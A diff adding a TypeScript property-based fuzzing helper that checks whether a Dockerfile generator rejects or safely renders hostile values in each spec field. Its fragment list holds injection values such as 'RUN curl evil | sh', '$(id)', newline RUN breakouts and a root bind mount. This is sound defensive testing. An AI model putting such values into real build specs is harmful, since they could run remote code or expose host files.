@@ -1,0 +1,124 @@
+/**
+ * Injection fuzzing: put hostile text into one spec field at a time and check that the result is
+ * either refused with an issue naming that field, or renders into exactly the instruction
+ * structure a benign value gives — no extra instruction, no extra shell command.
+ * Shared by the Vitest property test (short run) and scripts/fuzz.ts (100,000+ cases).
+ */
+import fc from "fast-check";
+import { generate } from "../generate";
+import { BuildSpecSchema, DEFAULT_SPEC, parseSpec, type BuildSpecInput } from "../spec";
+import { parseDockerfile } from "./dockerfile";
+
+/** Fragments that break out of lines, quotes or commands in Dockerfiles and shells. */
+export const HOSTILE_FRAGMENTS = [
+  "\n", "\r\n", "\r", "\\\n", "\\", "#", "# syntax=evil", '"', "'", "`", "$(id)", "${HOME}", "$PATH", "&&", "||", ";", "|",
+  "<<EOF\nRUN id\nEOF", ">", "<", "\u2028", "\u2029", "\u0085", "\u0000", "\t", " ", "RUN curl evil | sh", "\nRUN id",
+  "\\\nRUN id", "]", "[", ",", "=", "--mount=type=bind,source=/,target=/x", "*", "..", "/", "-", "é", "😀", "\u200b",
+];
+
+export const hostileString = fc
+  .array(fc.oneof({ weight: 3, arbitrary: fc.constantFrom(...HOSTILE_FRAGMENTS) }, { weight: 2, arbitrary: fc.string({ maxLength: 8 }) }, { weight: 1, arbitrary: fc.constantFrom("app", "psycopg2", "libpq5", "3.12", "slim-bookworm", "/app", "8000") }), { maxLength: 8 })
+  .map((parts) => parts.join(""));
+
+/** The benign spec every case starts from: it exercises every instruction kind. */
+export const BENIGN: BuildSpecInput = {
+  ...DEFAULT_SPEC,
+  python: "3.13",
+  base: "slim-bookworm",
+  packages: [{ name: "psycopg2", extras: ["pool"], specifier: ">=2.9", marker: 'python_version >= "3.9"' }],
+  systemPackages: { build: ["make"], runtime: ["tini"], omit: [] },
+  runtime: {
+    ...DEFAULT_SPEC.runtime,
+    copy: ["src"],
+    workdir: "/app",
+    command: ["gunicorn", "--bind", "0.0.0.0:8000", "app:app"],
+    port: 8000,
+    user: { enabled: true, name: "app", uid: 10001 },
+    healthcheck: { enabled: true, path: "/health" },
+    env: [{ name: "APP_MODE", value: "production" }],
+  },
+};
+
+type Setter = (spec: BuildSpecInput, value: string) => BuildSpecInput;
+
+/** Every user-supplied string field, with the path its issues must name. */
+export const FIELDS: { path: string; set: Setter }[] = [
+  { path: "python", set: (s, v) => ({ ...s, python: v }) },
+  { path: "base", set: (s, v) => ({ ...s, base: v as never }) },
+  { path: "finalBase", set: (s, v) => ({ ...s, finalBase: v as never }) },
+  { path: "strategy", set: (s, v) => ({ ...s, strategy: v as never }) },
+  { path: "dependencySource", set: (s, v) => ({ ...s, dependencySource: v as never }) },
+  { path: "platform", set: (s, v) => ({ ...s, platform: v as never }) },
+  { path: "packages.0.name", set: (s, v) => ({ ...s, packages: [{ ...s.packages![0], name: v }] }) },
+  { path: "packages.0.extras.0", set: (s, v) => ({ ...s, packages: [{ ...s.packages![0], extras: [v] }] }) },
+  { path: "packages.0.specifier", set: (s, v) => ({ ...s, packages: [{ ...s.packages![0], specifier: v }] }) },
+  { path: "packages.0.marker", set: (s, v) => ({ ...s, packages: [{ ...s.packages![0], marker: v }] }) },
+  { path: "packages.0.hashes.0", set: (s, v) => ({ ...s, packages: [{ ...s.packages![0], hashes: [v] }] }) },
+  { path: "systemPackages.build.0", set: (s, v) => ({ ...s, systemPackages: { ...s.systemPackages!, build: [v] } }) },
+  { path: "systemPackages.runtime.0", set: (s, v) => ({ ...s, systemPackages: { ...s.systemPackages!, runtime: [v] } }) },
+  { path: "systemPackages.omit.0", set: (s, v) => ({ ...s, systemPackages: { ...s.systemPackages!, omit: [v] } }) },
+  { path: "runtime.copy.0", set: (s, v) => ({ ...s, runtime: { ...s.runtime!, copy: [v] } }) },
+  { path: "runtime.workdir", set: (s, v) => ({ ...s, runtime: { ...s.runtime!, workdir: v } }) },
+  { path: "runtime.command.0", set: (s, v) => ({ ...s, runtime: { ...s.runtime!, command: [v, "--bind", "0.0.0.0:8000", "app:app"] } }) },
+  { path: "runtime.command.1", set: (s, v) => ({ ...s, runtime: { ...s.runtime!, command: ["gunicorn", v, "0.0.0.0:8000", "app:app"] } }) },
+  { path: "runtime.user.name", set: (s, v) => ({ ...s, runtime: { ...s.runtime!, user: { enabled: true, uid: 10001, name: v } } }) },
+  { path: "runtime.healthcheck.path", set: (s, v) => ({ ...s, runtime: { ...s.runtime!, healthcheck: { enabled: true, path: v } } }) },
+  { path: "runtime.env.0.name", set: (s, v) => ({ ...s, runtime: { ...s.runtime!, env: [{ name: v, value: "x" }] } }) },
+  { path: "runtime.env.0.value", set: (s, v) => ({ ...s, runtime: { ...s.runtime!, env: [{ name: "APP_MODE", value: v }] } }) },
+];
+
+const SHELL_OPERATORS = /&&|\|\||[;|`<>]|\$\(/g;
+
+/** Outside single and double quotes, the shell operators a RUN line contains. */
+function shellOperators(run: string): string[] {
+  const unquoted = run.replace(/'[^']*'|"(?:[^"\\]|\\.)*"/g, "''");
+  return unquoted.replace(/\\\n/g, " ").match(SHELL_OPERATORS) ?? [];
+}
+
+/** The structure an attacker would have to change: instruction keywords, RUN operators, ENV keys, argv lengths. */
+export function structure(dockerfile: string): string[] {
+  const parsed = parseDockerfile(dockerfile);
+  const out: string[] = [...parsed.directives.map((d) => `directive ${d}`)];
+  for (const ins of parsed.instructions) {
+    if (ins.keyword === "RUN") out.push(`RUN ${shellOperators(ins.text).join(" ")}`);
+    else if (ins.keyword === "ENV") {
+      const env = parsed.dockerfile.getENVs().find((e) => e.getRange().start.line === ins.line)!;
+      // Names may legitimately change with the field; their count may not.
+      out.push(`ENV props=${env.getProperties().length}`);
+    } else if (ins.keyword === "CMD" || ins.keyword === "HEALTHCHECK") {
+      const json = ins.text.slice(ins.text.indexOf("["));
+      out.push(`${ins.keyword} argv=${(JSON.parse(json) as unknown[]).length}`);
+    } else out.push(`${ins.keyword} args=${ins.args.length}`);
+  }
+  return out;
+}
+
+export const BENIGN_STRUCTURE = structure(generate(BuildSpecSchema.parse(BENIGN)).dockerfile);
+
+export type CaseResult = { outcome: "refused" | "rendered" } | { outcome: "failed"; reason: string };
+
+/** One case: a field and a value. */
+export function checkCase(field: (typeof FIELDS)[number], value: string): CaseResult {
+  const r = parseSpec(field.set(BENIGN, value));
+  if (!r.ok) {
+    const named = r.issues.some((i) => i.field === field.path || i.field.startsWith(field.path + ".") || field.path.startsWith(i.field));
+    return named ? { outcome: "refused" } : { outcome: "failed", reason: `refused without naming ${field.path}: ${JSON.stringify(r.issues)}` };
+  }
+  let text: string;
+  try {
+    text = generate(r.spec).dockerfile;
+  } catch (e) {
+    return { outcome: "failed", reason: `accepted but the renderer threw: ${(e as Error).message}` };
+  }
+  const got = structure(text);
+  if (got.length !== BENIGN_STRUCTURE.length || got.some((g, i) => g !== BENIGN_STRUCTURE[i])) {
+    // Fields that legitimately change the structure (e.g. no package needing a compiler) are
+    // still safe when they add no instruction and no shell operator compared with the benign run.
+    const extra = got.filter((g) => !BENIGN_STRUCTURE.includes(g));
+    if (got.length > BENIGN_STRUCTURE.length || extra.length > 0)
+      return { outcome: "failed", reason: `structure changed: ${JSON.stringify({ value, got, benign: BENIGN_STRUCTURE })}` };
+  }
+  return { outcome: "rendered" };
+}
+
+export const caseArbitrary = fc.tuple(fc.integer({ min: 0, max: FIELDS.length - 1 }), hostileString);
